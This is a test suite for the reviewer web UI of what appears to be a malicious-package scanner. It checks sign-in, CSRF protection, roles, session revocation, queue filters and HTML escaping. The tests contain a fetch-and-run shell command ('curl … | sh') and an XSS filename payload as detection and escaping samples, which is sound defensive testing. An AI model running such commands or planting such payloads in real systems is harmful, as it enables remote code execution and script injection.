"""The reviewer web UI: sign-in, CSRF, roles, escaping and the Content-Security-Policy."""

from __future__ import annotations

import re

from capwatch.service.middleware import CONTENT_SECURITY_POLICY
from capwatch.service.schema import Role
from tests.service.conftest import Harness
from tests.service.packages import (
    SCRIPT_MARK,
    clean_sdist,
    hostile_html_sdist,
    malicious_sdist,
)


def _csrf(html: str) -> str:
    match = re.search(r'name="csrf" value="([^"]+)"', html)
    assert match, html
    return match.group(1)


def sign_in(h: Harness, role: Role = Role.REVIEWER) -> str:
    """Sign in through the form; returns the session's CSRF token from the queue page."""
    form = h.client.get("/login")
    response = h.client.post(
        "/login", data={"token": h.tokens[role], "csrf": _csrf(form.text)}, follow_redirects=True
    )
    assert response.status_code == 200, response.text
    return _csrf(response.text)


def test_sign_in_needs_the_form_token_and_a_reviewer_token(start_service, sqlite_url):
    h: Harness = start_service(sqlite_url)
    assert h.client.get("/ui/queue", follow_redirects=False).headers["location"] == "/login"
    h.client.get("/login")
    no_csrf = h.client.post("/login", data={"token": h.tokens[Role.REVIEWER], "csrf": "forged"})
    assert no_csrf.status_code == 403
    form = h.client.get("/login")
    bad = h.client.post("/login", data={"token": "cw_wrong", "csrf": _csrf(form.text)})
    assert bad.status_code == 401
    uploader = h.client.post(
        "/login", data={"token": h.tokens[Role.UPLOADER], "csrf": _csrf(form.text)}
    )
    assert uploader.status_code == 403
    assert "cw_session" not in h.client.cookies
    sign_in(h)
    assert h.client.get("/ui/queue").status_code == 200


def test_decision_form_is_csrf_protected(start_service, sqlite_url):
    h: Harness = start_service(sqlite_url)
    sid = h.upload(malicious_sdist()).json()["id"]
    csrf = sign_in(h)
    url = f"/ui/scans/{sid}/decision"
    missing = h.client.post(url, data={"decision": "malicious", "note": "x"})
    assert missing.status_code in (403, 422)
    forged = h.client.post(url, data={"decision": "malicious", "csrf": "forged"})
    assert forged.status_code == 403
    reviews = h.client.get(f"/api/v1/scans/{sid}/reviews").json()
    assert reviews == []
    ok = h.client.post(url, data={"decision": "malicious", "note": "confirmed", "csrf": csrf},
                       follow_redirects=False)
    assert ok.status_code == 303
    reviews = h.client.get(f"/api/v1/scans/{sid}/reviews").json()
    assert [(r["decision"], r["note"]) for r in reviews] == [("malicious", "confirmed")]
    # A session cookie alone never authorises an API write.
    api = h.client.post(f"/api/v1/scans/{sid}/review", json={"decision": "benign"})
    assert api.status_code == 401
    logout = h.client.post("/logout", data={"csrf": "forged"})
    assert logout.status_code == 403


def test_scan_page_shows_the_decoded_payload_and_escapes_everything(start_service, sqlite_url):
    h: Harness = start_service(sqlite_url)
    bad = h.upload(malicious_sdist()).json()["id"]
    clean = h.upload(clean_sdist(), "nicepkg-1.0.tar.gz").json()["id"]
    hostile = h.upload(hostile_html_sdist(), "<img src=x onerror=alert(1)>.tar.gz").json()
    assert hostile["verdict"] == "malicious"
    sign_in(h)
    page = h.client.get(f"/ui/scans/{bad}")
    assert page.status_code == 200
    assert "curl http://203.0.113.9/a | sh" in page.text.replace("&#39;", "'")
    assert "decoded payload" in page.text
    assert "Phase: install" in page.text
    assert 'class="line hit"' in page.text  # the code line, highlighted in its context
    assert page.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
    evil = h.client.get(f"/ui/scans/{hostile['id']}")
    assert evil.status_code == 200
    assert SCRIPT_MARK in evil.text
    assert "<script" not in evil.text.lower()
    assert "<img" not in evil.text.lower()
    assert "&lt;script&gt;" in evil.text
    queue = h.client.get("/ui/queue")
    assert "<img" not in queue.text and "&lt;img src=x onerror=alert(1)&gt;" in queue.text
    rows = [int(r) for r in re.findall(r'href="/ui/scans/(\d+)"', queue.text)]
    assert rows[-1] == clean  # malicious first (by score), clean last
    filtered = h.client.get("/ui/queue", params={"verdict": "clean"})
    assert re.findall(r'href="/ui/scans/(\d+)"', filtered.text) == [str(clean)]


def test_audit_page_lists_decisions(start_service, sqlite_url):
    h: Harness = start_service(sqlite_url)
    sid = h.upload(malicious_sdist()).json()["id"]
    h.client.post(f"/api/v1/scans/{sid}/review", headers=h.auth(Role.REVIEWER),
                  json={"decision": "needs-info", "note": "<i>who</i> uploaded this?"})
    sign_in(h)
    page = h.client.get("/ui/audit")
    assert "needs-info" in page.text
    assert "&lt;i&gt;who&lt;/i&gt;" in page.text


def test_revoking_a_token_ends_its_sessions(start_service, sqlite_url):
    from datetime import UTC, datetime

    from sqlalchemy import update

    from capwatch.service.schema import Token

    h: Harness = start_service(sqlite_url)
    csrf = sign_in(h)
    assert h.client.get("/ui/queue", follow_redirects=False).status_code == 200
    with h.service.sessions() as session:
        session.execute(update(Token).where(Token.name == "test-reviewer")
                        .values(revoked_at=datetime.now(UTC)))
        session.commit()
    assert h.client.get("/ui/queue", follow_redirects=False).status_code == 303
    assert h.client.get("/api/v1/scans").status_code == 401
    assert h.client.post("/logout", data={"csrf": csrf}, follow_redirects=False).status_code == 303
    tampered = h.client.cookies.get("cw_session")
    assert tampered is None


def test_scan_page_lists_capabilities_and_files_and_the_queue_filters(start_service, sqlite_url):
    h: Harness = start_service(sqlite_url)
    bad = h.upload(malicious_sdist()).json()["id"]
    clean = h.upload(clean_sdist(), "nicepkg-1.0.tar.gz").json()["id"]
    sign_in(h)
    page = h.client.get(f"/ui/scans/{bad}").text
    capabilities = page[page.index('<section class="capabilities">'):]
    capabilities = capabilities[:capabilities.index("</section>")]
    assert "<code>code.exec.dynamic</code></td><td>install</td>" in capabilities
    files = page[page.index('<section class="files">'):]
    files = files[:files.index("</section>")]
    assert "<code>evilpkg-1.0/setup.py</code>" in files
    clean_page = h.client.get(f"/ui/scans/{clean}").text
    assert "<code>nicepkg-1.0/nicepkg/__init__.py</code>" in clean_page

    def listed(**params: str) -> list[int]:
        queue = h.client.get("/ui/queue", params=params).text
        return [int(r) for r in re.findall(r'href="/ui/scans/(\d+)"', queue)]

    assert listed(project="nicepkg") == [clean]
    assert listed(status="done") == [bad, clean]
    assert listed(status="queued") == []
    decided = h.client.post(
        f"/api/v1/scans/{bad}/review", json={"decision": "malicious", "note": "payload"},
        headers=h.auth(Role.REVIEWER),
    )
    assert decided.status_code == 201, decided.text
    assert listed(undecided="1") == [clean]
    assert listed() == [bad, clean]
